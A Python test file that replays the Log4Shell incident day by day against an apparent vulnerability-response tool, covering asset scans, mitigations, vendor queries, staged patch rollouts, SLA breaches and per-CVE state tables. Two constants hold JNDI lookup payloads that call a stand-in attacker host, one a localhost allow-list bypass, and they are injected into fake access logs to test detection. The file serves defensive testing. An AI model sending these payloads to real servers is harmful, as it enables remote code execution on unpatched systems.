"""The whole of Log4Shell, day by day, with a clock that stands: CVE-2021-44228, then -45046, -45105 and -44832, while 2.15.0, 2.16.0, 2.17.0 and 2.17.1 are rolled out.

Which release is affected by what is Apache's word (its security page, and the release notes of the branches for Java 7 and 6):

    release              44228  45046  45105  44832
    2.8.2, 2.12.1          x      x      x      x
    2.13.3, 2.14.1         x      x      x      x
    2.15.0                        x      x      x
    2.16.0                               x      x
    2.12.2                               x      x
    2.17.0, 2.12.3                              x
    2.17.1, 2.12.4

and so is what a mitigation covers: formatMsgNoLookups 44228 alone, from 2.10 on; JndiLookup removed 44228 and 45046. The tables below are written from these by hand.
"""
import json

import respond_case
from respond_case import RespondCase, component, finding, report

CVES = {"44228": "CVE-2021-44228", "45046": "CVE-2021-45046", "45105": "CVE-2021-45105", "44832": "CVE-2021-44832"}
# Ranges as the advisories give them, branch by branch: introduced, fixed.
RANGES = {
    "44228": (("2.0-beta9", "2.3.1"), ("2.4", "2.12.2"), ("2.13.0", "2.15.0")),
    "45046": (("2.0-beta9", "2.3.1"), ("2.4", "2.12.2"), ("2.13.0", "2.16.0")),
    "45105": (("2.0-beta9", "2.3.1"), ("2.4", "2.12.3"), ("2.13.0", "2.17.0")),
    "44832": (("2.0-beta7", "2.3.2"), ("2.4", "2.12.4"), ("2.13.0", "2.17.1")),
}
# When each was published, and how grave it was held to be.
PUBLISHED = {"44228": ("2021-12-10T00:40:56Z", "CRITICAL"), "45046": ("2021-12-14T18:01:28Z", "CRITICAL"), "45105": ("2021-12-18T18:00:07Z", "HIGH"),
             "44832": ("2022-01-04T16:14:20Z", "MODERATE")}
ESTATE = """name,environment,exposure,owner
web,production,public,shop
web-stage,staging,internal,shop
web-dev,development,internal,shop
legacy,production,internal,billing
pipe,production,receives-public-input,logs
old,production,internal,archive
batch,production,internal,reports
clean,production,public,front
never,production,internal,nobody
"""
PLAIN = "${jndi:ldap://evil.example:1389/%s}"
LOCALHOST = "${jndi:ldap://127.0.0.1#evil.example:1389/%s}"  # past the allow-list of 2.15.0


class Story(RespondCase):
    hosts = {name: n for n, name in enumerate("web web-stage web-dev legacy pipe old batch clean".split(), 1)}

    def look(self, when, **hosts):
        """Complete looks at these hosts, with the release each runs; None: no log4j-core."""
        self.now(when)
        for name, version in hosts.items():
            name = name.replace("_", "-")
            parts, found = [component()], []
            if version and name == "old":  # its class is gone by now or not: the scan sees that by itself
                version, state = version
                found = [finding(cve=CVES[c], version=version, state="affected" if c in ("45105", "44832") else state) for c in CVES if c in self.published]
                parts.append(component("log4j-core", version, "/srv/log4j-core.jar", respond_case.LOG4J % version))
            elif version:
                parts.append(component("log4j-core", version, "/srv/%s/log4j-core.jar" % name, respond_case.LOG4J % version))
            ident = "%032x" % self.hosts[name]
            self.take(report(name=name, machine=ident, hardware=ident, ended=when, components=parts, findings=found))

    def publish(self, when, number):
        self.now(when)
        self.published.append(number)
        published, severity = PUBLISHED[number]
        record = {"id": "GHSA-%s" % number, "aliases": [CVES[number]], "published": min(published, when), "modified": min(published, when), "database_specific": {"severity": severity}, "affected": [
            {"package": {"ecosystem": "Maven", "name": "org.apache.logging.log4j:log4j-core"},
             "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": a}, {"fixed": b}]}]} for a, b in RANGES[number]]}
        done = self.run_cli("advisory", "add", self.write("ghsa-%s.json" % number, json.dumps(record)), status=0)
        return " ".join(done.stdout.decode().split())

    def table(self, expected):
        """A row per asset, a column per CVE that is published: the least safe of its findings now; - none, F fixed, M mitigated, A affected."""
        letters, order = {"affected": "A", "fixed_on_disk": "R", "under_investigation": "?", "mitigated": "M", "fixed": "F", "not_affected": "N"}, "AR?MFN"
        got = {}
        for (asset, name, _), state in self.states().items():
            for number, cve in CVES.items():
                if name == cve:
                    now = got.setdefault(asset, {})
                    now[number] = min(now.get(number, "N"), letters[state], key=order.index)
        want = {}
        lines = [line.split() for line in expected.strip().splitlines()]
        for row in lines[1:]:
            want[row[0]] = {number: letter for number, letter in zip(lines[0], row[1:]) if letter != "-"}
        self.assertEqual(lines[0], self.published)
        self.assertEqual({a: got.get(a, {}) for a in want}, want)

    def tried(self, when, payload, status=200, log="shop"):
        """One attempt in the shop's log at this time, imported a minute later."""
        month = {"12": "Dec", "01": "Jan"}[when[5:7]]
        text = '192.0.2.66 - - [%s/%s/%s:%s +0000] "GET /?q=%s HTTP/1.1" %d 12 "-" "curl"\n' % (when[8:10], month, when[:4], when[11:19], payload % when[8:13].replace("T", "-"), status)
        path = self.write(log + when[8:13] + ".log", text)
        events = self.run_cli("detect", "--json", "-q", path, status=1).stdout
        self.now(when[:16] + ":59Z")
        self.run_cli("attempts", "import", "-", stdin=events, status=0)
        return {r["asset"]: r["would"] for r in self.lines("attempts", "--against-assets", "--json", "--since", when) if "asset" in r}

    def late(self):
        return {(d["asset"], d["vulnerability"][-5:]) for d in self.lines("sla", "overdue", "--json")}

    def vendors(self, number):
        return {v["vendor"]: v["state"] for v in self.lines("vendor", "list", CVES[number], "--json", status=0)}

    def coverage(self, number):
        got = json.loads(self.run_cli("affected", CVES[number], "--json").stdout)
        return got["coverage"]["known"], got["coverage"]["fresh"], sorted(u["asset"] for u in got["coverage"]["unassessed"])

    def test_day_by_day(self):
        self.published = []

        # --- Friday 10 December. Nobody has looked at anything: an answer would have no denominator.
        self.now("2021-12-10T08:00:00Z")
        self.run_cli("asset", "import", self.write("estate.csv", ESTATE), status=0)
        said = self.publish("2021-12-10T08:05:00Z", "44228")
        self.assertIn("0 opened", said)
        self.run_cli("affected", CVES["44228"], status=3)
        self.assertEqual(self.coverage("44228"), (9, 0, sorted([*self.hosts, "never"])))
        self.run_cli("advisory", "kev", self.write("kev.json", json.dumps({"vulnerabilities": [{"cveID": CVES["44228"], "dateAdded": "2021-12-10", "dueDate": "2021-12-24"}]})), status=0)
        self.run_cli("incident", "open", CVES["44228"], "--mode", "incident", "--notified", "2021-12-10T08:00:00Z", status=0)
        self.look("2021-12-10T09:30:00Z", web="2.14.1", web_stage="2.14.1", web_dev="2.14.1", legacy="2.12.1", pipe="2.13.3", old=("2.8.2", "affected"), batch="2.14.1", clean=None)
        self.table("""
                    44228
            web       A
            web-stage A
            web-dev   A
            legacy    A
            pipe      A
            old       A
            batch     A
            clean     -
            never     -""")
        self.assertEqual(self.coverage("44228"), (9, 8, ["never"]))
        text = " ".join(self.run_cli("affected", CVES["44228"], "--exposure", "public", status=1).stdout.decode().split())
        self.assertIn("1 finding on public assets that nothing mitigates; 2 of 2 public ones were looked at", text)
        self.run_cli("route", "add", "shop", "--log", "*shop*", "--asset", "web", "--reader", "pipe", status=0)
        self.run_cli("route", "add", "front", "--log", "*shop*", "--asset", "clean", "--asset", "never", status=0)
        fires = {"web": "would fire", "pipe": "would fire", "clean": "would not", "never": "cannot rule out"}
        self.assertEqual(self.tried("2021-12-10T11:00:00Z", PLAIN, 403), fires)  # whatever was answered

        # Two vendors hold data of ours. Both are asked; one answers, the other does not and gets nothing more of ours.
        self.run_cli("vendor", "add", "Acme", "--contact", "sec@acme.example", "--data", "mail logs", status=0)
        self.run_cli("vendor", "add", "Bolt", "--contact", "sec@bolt.example", status=0)
        self.run_cli("vendor", "ask", "--all", CVES["44228"], "--from", "sec@us.example", "--dir", str(self.dir), status=0)
        self.run_cli("vendor", "limit", "Bolt", "no access to the gateway", "--why", "no answer", status=0)
        self.assertEqual(self.vendors("44228"), {"Acme": "asked", "Bolt": "asked"})

        # What can be done at once: the flag, a class taken out, isolation, a rule in the proxy.
        self.now("2021-12-10T13:00:00Z")
        self.run_cli("control", "add", "pipe", "no-lookups", "--evidence", "unit file", "--until", "7d", status=0)
        self.run_cli("control", "add", "old", "no-lookups", "--evidence", "start script", status=0)  # 2.8.2 has no such flag
        self.run_cli("control", "add", "batch", "isolated", "--evidence", "VLAN 7", status=0)
        self.run_cli("control", "add", "web", "waf", "--evidence", "rule 1", status=0)
        self.table("""
                    44228
            web       A
            web-stage A
            web-dev   A
            legacy    A
            pipe      M
            old       A
            batch     M
            clean     -
            never     -""")
        self.run_cli("control", "add", "old", "no-lookups", "--evidence", "again", "--covers", CVES["45046"], status=2)
        self.look("2021-12-10T15:00:00Z", old=("2.8.2", "mitigated"))  # JndiLookup.class is out, and a scan saw that
        self.assertEqual(self.tried("2021-12-10T16:00:00Z", PLAIN)["pipe"], "cannot rule out")  # Logger.printf

        self.now("2021-12-10T20:00:00Z")
        self.run_cli("vendor", "answer", "Acme", CVES["44228"], "fixed", "--summary", "2.15.0", status=0)
        self.assertEqual(self.vendors("44228"), {"Acme": "answered", "Bolt": "asked"})

        # --- Saturday and Sunday. 2.15.0: development, then staging, then production. Identified in time, patched too late.
        self.run_cli("rollout", "start", "log4j-2.15.0", CVES["44228"], status=0)
        self.look("2021-12-11T10:00:00Z", web_dev="2.15.0")
        self.run_cli("rollout", "stage", "log4j-2.15.0", "production", status=2)
        self.run_cli("rollout", "verify", "log4j-2.15.0", "development", status=0)
        self.run_cli("rollout", "stage", "log4j-2.15.0", "staging", status=0)
        self.look("2021-12-11T16:00:00Z", web_stage="2.15.0")
        self.run_cli("rollout", "verify", "log4j-2.15.0", "staging", status=0)
        self.run_cli("rollout", "stage", "log4j-2.15.0", "production", status=0)
        self.look("2021-12-12T12:00:00Z", web="2.15.0")
        self.table("""
                    44228
            web       F
            web-stage F
            web-dev   F
            legacy    A
            pipe      M
            old       M
            batch     M
            clean     -
            never     -""")
        self.run_cli("rollout", "verify", "log4j-2.15.0", "production", status=1)  # legacy is not done, and mitigated is not fixed
        row, = self.lines("incident", "show", "INC-1", "--json", status=0)
        clocks = {c["clock"]: c for c in row["clocks"]}
        self.assertEqual((clocks["identification"]["due"], clocks["first-patch"]["due"]), ("2021-12-10T10:00:00Z", "2021-12-10T16:00:00Z"))
        self.assertIn("breached", clocks["first-patch"])  # the first fix was seen on the 11th
        self.assertEqual(self.tried("2021-12-12T18:00:00Z", PLAIN), {"web": "would not", "pipe": "cannot rule out", "clean": "would not", "never": "cannot rule out"})
        self.assertEqual(self.tried("2021-12-13T09:00:00Z", LOCALHOST)["web"], "cannot rule out")  # 2.15.0 with a setting
        # 12 hours where the public reaches or feeds, 24 in production, 48 elsewhere, from the first sight at 09:30 on the 10th; mitigation buys no time.
        late = {("legacy", "44228"), ("pipe", "44228"), ("old", "44228"), ("batch", "44228")}
        self.assertEqual(self.late(), late)
        breached = dict(self.sql("SELECT a.name, f.breached FROM finding f JOIN asset a ON a.id = f.asset WHERE f.breached IS NOT NULL"))
        self.assertEqual({k: v for k, v in breached.items() if k == "web"}, {"web": us("2021-12-10T21:30:00Z")})  # late once, for good

        # --- Tuesday 14 December. CVE-2021-45046: 2.15.0 was not enough, and the flag does not cover it.
        self.look("2021-12-14T09:00:00Z", legacy="2.12.2")
        said = self.publish("2021-12-14T18:05:00Z", "45046")
        self.assertIn("6 opened", said)
        self.assertIn("Mitigations that do not cover it", said)
        self.assertIn("pipe (production) is protected from CVE-2021-44228 alone: no-lookups covers it (unit file", said)
        self.assertNotIn("batch (production) is protected from CVE-2021-44228 alone", said)
        self.run_cli("incident", "join", "INC-1", CVES["45046"], status=0)
        self.look("2021-12-14T18:30:00Z", old=("2.8.2", "mitigated"))
        self.table("""
                    44228 45046
            web       F     A
            web-stage F     A
            web-dev   F     A
            legacy    F     -
            pipe      M     A
            old       M     M
            batch     M     M
            clean     -     -
            never     -     -""")
        self.assertEqual(self.coverage("45046")[2], ["never"])
        # Acme answered for the one before: for this one it is silent, and not taken to have answered.
        self.assertEqual(self.vendors("45046"), {"Acme": "silent", "Bolt": "not asked"})
        self.run_cli("vendor", "silent", CVES["45046"], status=1)
        self.run_cli("vendor", "ask", "--all", CVES["45046"], "--from", "sec@us.example", "--dir", str(self.dir), status=0)
        # A person may say that the flag covers it: the word is kept, and changes nothing.
        self.run_cli("control", "add", "pipe", "no-lookups", "--evidence", "vendor says so", "--covers", CVES["45046"], "--claim", status=0)
        self.assertEqual(self.states(CVES["45046"])[("pipe", CVES["45046"], "2.13.3")], "affected")

        # --- Wednesday: 2.16.0 to production the same way; staging skipped, by name.
        self.run_cli("rollout", "start", "log4j-2.16.0", CVES["45046"], status=0)
        self.look("2021-12-15T08:00:00Z", web_dev="2.16.0")
        self.run_cli("rollout", "verify", "log4j-2.16.0", "development", status=0)
        self.run_cli("rollout", "stage", "log4j-2.16.0", "staging", status=0)
        self.run_cli("rollout", "skip", "log4j-2.16.0", "staging", "--why", "it is exploited", "--actor", "jo", status=0)
        self.run_cli("rollout", "stage", "log4j-2.16.0", "production", status=0)
        self.look("2021-12-15T10:00:00Z", web="2.16.0", web_stage="2.16.0", pipe="2.13.3")
        self.table("""
                    44228 45046
            web       F     F
            web-stage F     F
            web-dev   F     F
            legacy    F     -
            pipe      M     A
            old       M     M
            batch     M     M
            clean     -     -
            never     -     -""")
        self.assertEqual(self.tried("2021-12-16T09:00:00Z", LOCALHOST)["web"], "cannot rule out")  # log4j2.enableJndi=true, which nobody knows
        self.assertEqual(self.tried("2021-12-16T10:00:00Z", PLAIN)["web"], "would not")

        for vendor in ("Acme", "Bolt"):
            self.run_cli("vendor", "answer", vendor, CVES["45046"], "fixed", "--summary", "2.16.0", status=0)
        self.run_cli("vendor", "silent", CVES["45046"], status=0)
        self.assertEqual(self.vendors("44228"), {"Acme": "answered", "Bolt": "silent"})  # an answer counts for what it is about, and says that it can answer

        # --- Friday 17 December, 13:00: the flag's time is over.
        self.now("2021-12-17T12:59:59Z")
        self.run_cli("affected", CVES["44228"], "--unprotected", "--exposure", "receives-public-input", status=0)
        self.now("2021-12-17T13:00:00Z")
        self.run_cli("affected", CVES["44228"], "--unprotected", "--exposure", "receives-public-input", status=1)
        self.assertEqual(self.tried("2021-12-17T15:00:00Z", PLAIN)["pipe"], "would fire")

        # --- Saturday 18 December. CVE-2021-45105: recursion; no class and no flag stands against it.
        said = self.publish("2021-12-18T18:10:00Z", "45105")
        self.assertIn("old (production) is protected from CVE-2021-44228 alone", said)
        self.look("2021-12-18T18:30:00Z", old=("2.8.2", "mitigated"))
        self.table("""
                    44228 45046 45105
            web       F     F     A
            web-stage F     F     A
            web-dev   F     F     A
            legacy    F     -     A
            pipe      A     A     A
            old       M     M     A
            batch     M     M     M
            clean     -     -     -
            never     -     -     -""")

        # --- Monday 20 December: 2.17.0, and 2.12.3 for Java 7.
        self.look("2021-12-20T10:00:00Z", web="2.17.0", web_stage="2.17.0", web_dev="2.17.0", pipe="2.17.0", clean=None)
        self.look("2021-12-21T10:00:00Z", legacy="2.12.3")
        self.table("""
                    44228 45046 45105
            web       F     F     F
            web-stage F     F     F
            web-dev   F     F     F
            legacy    F     -     F
            pipe      F     F     F
            old       M     M     A
            batch     M     M     M
            clean     -     -     -
            never     -     -     -""")
        text = " ".join(self.run_cli("affected", CVES["45105"], "--exposure", "public", status=0).stdout.decode().split())
        self.assertIn("No public asset is affected: 2 of 2 public ones were looked at completely and lately.", text)
        self.assertEqual(self.tried("2021-12-22T09:00:00Z", PLAIN)["pipe"], "would not")

        # --- Tuesday 28 December. CVE-2021-44832, for whoever may write the configuration. 2.17.0 was not the last one either.
        said = self.publish("2021-12-28T20:00:00Z", "44832")
        self.assertIn("7 opened", said)
        self.look("2021-12-28T20:30:00Z", old=("2.8.2", "mitigated"))
        self.table("""
                    44228 45046 45105 44832
            web       F     F     F     A
            web-stage F     F     F     A
            web-dev   F     F     F     A
            legacy    F     -     F     A
            pipe      F     F     F     A
            old       M     M     A     A
            batch     M     M     M     M
            clean     -     -     -     -
            never     -     -     -     -""")

        # --- Wednesday 29 December: 2.17.1 and 2.12.4 everywhere; old is switched off.
        self.look("2021-12-29T12:00:00Z", web="2.17.1", web_stage="2.17.1", web_dev="2.17.1", legacy="2.12.4", pipe="2.17.1", batch="2.17.1", clean=None, old=None)
        self.table("""
                    44228 45046 45105 44832
            web       F     F     F     F
            web-stage F     F     F     F
            web-dev   F     F     F     F
            legacy    F     -     F     F
            pipe      F     F     F     F
            old       F     F     F     F
            batch     F     F     F     F
            clean     -     -     -     -
            never     -     -     -     -""")
        for number in CVES:
            self.assertEqual(self.coverage(number), (9, 8, ["never"]))
            self.run_cli("affected", CVES[number], status=3)  # nobody ever looked at one: that is no answer yet
        self.run_cli("asset", "retire", "never", "--why", "was never built", status=0)
        for number in CVES:
            self.run_cli("affected", CVES[number], status=0)
        # What was late stays marked, and the whole of it can be told.
        self.assertEqual({a for (a, n) in self.late_once() if n == "44228"}, {"web", "legacy", "pipe", "old", "batch"})
        self.assertEqual(self.kinds().count("control.expired"), 1)
        self.assertIn(b"Whole: ", self.run_cli("timeline", "--verify", status=0).stdout)

    def late_once(self):
        return {(a, n[-5:]) for a, n in self.sql("SELECT a.name, v.name FROM finding f JOIN asset a ON a.id = f.asset JOIN vulnerability v ON v.id = f.vulnerability WHERE f.breached IS NOT NULL")}


def us(stamp):
    import datetime
    return int(datetime.datetime.fromisoformat(stamp.replace("Z", "+00:00")).timestamp()) * 10**6


if __name__ == "__main__":
    respond_case.main()
